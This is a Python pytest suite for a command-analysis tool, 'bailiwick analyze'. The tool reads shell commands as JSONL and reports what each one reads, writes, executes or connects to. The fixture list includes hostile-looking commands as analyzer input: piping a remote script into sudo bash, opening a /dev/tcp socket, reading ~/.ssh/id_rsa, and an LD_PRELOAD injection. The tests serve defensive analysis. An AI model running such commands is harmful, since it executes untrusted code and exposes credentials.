"""`bailiwick analyze`: the contract for batch use, kept stable; one line in, one line out, whatever comes."""

import gc
import io
import json
import os
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bailiwick.cli import analyze
from bailiwick.cli.main import main

GOLDEN = Path(__file__).parent / "analyze.jsonl"
KINDS = {
    *("read", "write", "delete", "execute", "connect"),
    *("project-code", "privilege", "environment", "signal", "config"),
}
COMMANDS = [
    'cd build && find . -name "*.o" -delete; curl -s https://x.sh | sudo bash',
    "echo x >> /etc/hosts",
    "sudo -u deploy rm -rf releases/*",
    "make test",
    "kill -9 123 $PID",
    "export TOKEN=a; LD_PRELOAD=./x.so ls",
    "rm $X; $Y",
    "frobnicate --all",
    "exec 3<>/dev/tcp/192.0.2.1/80",
    "bash -c 'cat ~/.ssh/id_rsa'",
    "cat 'ü/ß' # after it",
    "if true",
    "grep -r --exclude='.env*' x .",
    "",
]
KEYS = {"id", "accesses", "programs", "opaque", "micros"}


def question(command: str, **more: Any) -> bytes:
    return json.dumps({"command": command, "cwd": "/w", "home": "/home/u", "shell": "bash"} | more).encode()


def answered(data: bytes) -> list[Any]:
    return [json.loads(line) for line in analyze.answers(io.BytesIO(data))]


def checked(answer: Any, command: str) -> None:
    assert set(answer) >= KEYS
    for item in answer["accesses"]:
        assert set(item) >= {"kind", "target", "certainty", "span"}
        assert item["kind"] in KINDS
        assert item["certainty"] in {"literal", "pattern", "unknown"}
    for item in (*answer["accesses"], *answer["opaque"]):
        start, end = item["span"]
        assert 0 <= start <= end <= len(command)


def test_the_shape_of_an_answer(golden: Callable[[Path, str], None]) -> None:
    answers = answered(b"\n".join(question(command, id=n) for n, command in enumerate(COMMANDS)))
    for answer, command in zip(answers, COMMANDS, strict=True):
        checked(answer, command)
        assert answer.pop("micros") >= 0
        for item in (*answer["accesses"], *answer["opaque"]):
            item["quoted"] = command[slice(*item["span"])]
    assert {item["kind"] for answer in answers for item in answer["accesses"]} == KINDS - {"config"}
    golden(GOLDEN, "".join(json.dumps(answer, ensure_ascii=False) + "\n" for answer in answers))


@pytest.mark.parametrize(
    ("line", "answer_id", "error"),
    [
        (b"", None, "not JSON"),
        (b"{", None, "not JSON"),
        (b"[]", None, "not a JSON object"),
        (b'"x"', None, "not a JSON object"),
        (b'{"id": 1}', 1, "no 'command'"),
        (b'{"id": 1, "command": "ls"}', 1, "no 'cwd'"),
        (b'{"id": 1, "command": "ls", "cwd": "/"}', 1, "no 'home'"),
        (b'{"id": 1, "command": null, "cwd": "/", "home": "/"}', 1, "no 'command'"),
        (b'{"id": 1, "command": ["ls"], "cwd": "/", "home": "/"}', 1, "'command' is not a string"),
        (b'{"id": 2, "command": "ls", "cwd": "/", "home": "/", "shell": 7}', 2, "'shell' is not a string"),
        (question("ls \ud800", id=[3]), [3], "'command' is not Unicode text"),
        (b'{"id": "x", "command": "ls \xff", "cwd": "/", "home": "/"}', "x", "'command' is not Unicode text"),
        (b'{"id": "\xff"}', "\udcff", "no 'command'"),
        (b'{"id": NaN}', None, "not JSON"),
        (b'{"id": ' + b"[" * 100_000, None, "not JSON"),
        (b'{"id": ' + b"9" * 10_000 + b"}", None, "not JSON"),
    ],
    ids=lambda value: str(value)[:40],
)
def test_a_line_that_asks_nothing_is_an_error_and_opaque(line: bytes, answer_id: Any, error: str) -> None:
    (answer,) = answered(line + b"\n")
    assert answer["id"] == answer_id
    assert error in answer["error"]
    assert answer["accesses"] == answer["programs"] == []
    assert [part["reason"] for part in answer["opaque"]] == [f"not read: {answer['error']}"]
    checked(answer, "x" * 100)


@pytest.mark.parametrize(
    ("command", "more", "reason"),
    [
        ("ls \0", {}, "control"),
        ("ls " * 10_000, {}, "longer than"),
        ("ls", {"cwd": "w"}, "isn't known"),
        ("ls", {"shell": "fish"}, "isn't known"),
    ],
    ids=["NUL", "long", "relative", "fish"],
)
def test_what_the_reader_refuses_is_opaque_without_an_error(
    command: str, more: dict[str, str], reason: str
) -> None:
    (answer,) = answered(question(command, **more))
    assert "error" not in answer
    assert reason in answer["opaque"][0]["reason"]


def test_a_line_beyond_the_bound_is_answered_and_the_next_one_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(analyze, "MAX_LINE", 200)
    exact = question("ls").ljust(200)
    long, last = question("x" * 1000, id=1), question("x" * 1000)
    answers = answered(b"\n".join((long, question("ls", id=2), exact, long.ljust(401), last)))
    assert [answer.get("error", "") for answer in answers] == [
        *("longer than 200 bytes", "", "", "longer than 200 bytes", "longer than 200 bytes"),
    ]
    assert answers[1]["id"] == 2
    assert [answer["programs"] for answer in answers] == [[], ["ls"], ["ls"], [], []]


@given(st.lists(st.binary(max_size=40) | st.text(max_size=40).map(question)))
def test_any_lines_give_exactly_as_many(lines: list[bytes]) -> None:
    lines = [line.replace(b"\n", b"") for line in lines]
    answers = answered(b"".join(line + b"\n" for line in lines))
    assert len(answers) == len(lines)
    for answer in answers:
        assert set(answer) >= KEYS


def test_a_file_and_an_absent_one(tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    inputs = tmp_path / "in.jsonl"
    inputs.write_bytes(question("ls", id="a") + b"\n{")
    assert main(["analyze", "--jsonl", str(inputs)]) == 0
    said = [json.loads(line) for line in capfdbinary.readouterr().out.splitlines()]
    assert [answer["id"] for answer in said] == ["a", None]
    assert main(["analyze", "--jsonl", str(tmp_path / "none")]) == 3
    assert b"No such file" in capfdbinary.readouterr().err


def test_each_answer_leaves_at_once() -> None:
    command = [sys.executable, "-m", "bailiwick.cli.main", "analyze", "--jsonl"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        for number in range(3):
            process.stdin.write(question("ls", id=number) + b"\n")
            process.stdin.flush()
            assert json.loads(process.stdout.readline())["id"] == number
        process.stdin.close()
        assert process.stdout.read() == b""
    assert process.returncode == 0


def test_a_reader_that_goes_away_is_no_failure(tmp_path: Path) -> None:
    inputs = tmp_path / "in.jsonl"
    inputs.write_bytes(b"\n".join([question("ls")] * 1000))
    ours, its = os.pipe()
    os.close(ours)
    command = [sys.executable, "-m", "bailiwick.cli.main", "analyze", "--jsonl", str(inputs)]
    ended = subprocess.run(command, stdout=its, stderr=subprocess.PIPE, check=False)
    os.close(its)
    assert (ended.returncode, ended.stderr) == (0, b"")


def test_memory_does_not_grow_with_the_stream() -> None:
    """What stays after many lines is what stays after few, but for the reader's bounded caches."""

    def spent(count: int) -> int:
        lines = b"\n".join(question(f"cat 'file {n}' | grep x{n} > out/{n}", id=n) for n in range(count))
        stream = analyze.answers(io.BytesIO(lines))
        gc.collect()
        before = tracemalloc.get_traced_memory()[0]
        for _ in stream:
            pass
        gc.collect()
        return tracemalloc.get_traced_memory()[0] - before

    tracemalloc.start()
    try:
        spent(100)
        few, many = spent(100), spent(700)
    finally:
        tracemalloc.stop()
    assert many < few + 60_000
